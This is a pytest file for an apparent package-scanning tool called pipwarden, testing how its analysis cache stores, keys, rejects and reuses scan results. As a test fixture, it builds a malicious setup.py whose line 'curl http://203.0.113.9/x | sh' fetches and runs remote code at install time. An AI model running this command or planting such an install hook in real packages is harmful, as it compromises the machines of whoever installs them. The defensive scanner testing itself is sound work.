"""Analysis results cached by artifact content: reused on warm runs, keyed on every input."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from pipwarden.analysis_cache import AnalysisCache, cache_key
from pipwarden.analyze import analyze_archive
from pipwarden.archive import ArchiveLimits, read_archive
from pipwarden.models import Artifact, PackageRef
from tests.builders import make_sdist, sha256_of
from tests.indexserver import LocalIndex

EVIL = "import os\nfrom setuptools import setup\nos.system('curl http://203.0.113.9/x | sh')\nsetup()\n"


def test_round_trip_keeps_findings_and_members(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, "evil", "1.0", {"evil/__init__.py": "X = 1\n"}, setup_py=EVIL)
    artifact = Artifact(sdist.name, sha256_of(sdist), sdist.stat().st_size)
    ref = PackageRef("evil", "1.0")
    ctx, findings = analyze_archive(read_archive(sdist), artifact, ref)
    assert findings
    cache = AnalysisCache(tmp_path / "cache")
    key = cache_key(artifact, ref, None, None, ArchiveLimits())
    cache.put(key, ctx, findings)
    hit = cache.get(key, artifact, ref, None, None)
    assert hit is not None
    got_ctx, got_findings = hit
    assert got_findings == findings
    assert got_ctx.archive.members == ctx.archive.members


def test_key_covers_index_inputs(tmp_path: Path) -> None:
    artifact = Artifact("x-1.0-py3-none-any.whl", "a" * 64, 10)
    ref = PackageRef("x", "1.0")
    base = cache_key(artifact, ref, None, None, ArchiveLimits())
    assert base != cache_key(artifact, ref, None, b"Metadata-Version: 2.1\n", ArchiveLimits())
    assert base != cache_key(artifact, PackageRef("x", "1.0", hashes=("sha256:" + "b" * 64,)), None, None,
                             ArchiveLimits())
    assert base != cache_key(artifact, ref, None, None, ArchiveLimits(max_members=10))
    assert base != cache_key(Artifact("x-1.0-py3-none-any.whl", "c" * 64, 10), ref, None, None, ArchiveLimits())


def test_corrupt_entry_is_a_miss(tmp_path: Path) -> None:
    cache = AnalysisCache(tmp_path)
    artifact = Artifact("x-1.0.tar.gz", "a" * 64, 1)
    key = cache_key(artifact, PackageRef("x"), None, None, ArchiveLimits())
    path = tmp_path / "analysis" / key[:2] / f"{key}.json"
    path.parent.mkdir(parents=True)
    path.write_text("{not json")
    assert cache.get(key, artifact, PackageRef("x"), None, None) is None


def test_warm_scan_reuses_analysis(local_index: LocalIndex, tmp_path: Path) -> None:
    local_index.add(make_sdist(tmp_path, "evil", "1.0", setup_py=EVIL))
    cache_dir = tmp_path / "c"

    def run() -> dict[str, object]:
        proc = subprocess.run([sys.executable, "-m", "pipwarden", "scan", "evil", "-f", "json", "--index-url",
                               local_index.url, "--cache-dir", str(cache_dir)], capture_output=True, text=True,
                              check=False)
        assert proc.returncode == 1, proc.stderr
        return json.loads(proc.stdout)  # type: ignore[no-any-return]

    first = run()
    entries = list((cache_dir / "analysis").rglob("*.json"))
    assert len(entries) == 1
    # Make the cached entry say something the analysis never would: a warm run must serve it.
    doc = json.loads(entries[0].read_text())
    doc["findings"][0]["message"] = "served from the analysis cache"
    entries[0].write_text(json.dumps(doc))
    second = run()
    messages = [f["message"] for f in second["packages"][0]["findings"]]  # type: ignore[index]
    assert "served from the analysis cache" in messages
    assert len(second["packages"][0]["findings"]) == len(first["packages"][0]["findings"])  # type: ignore[index]
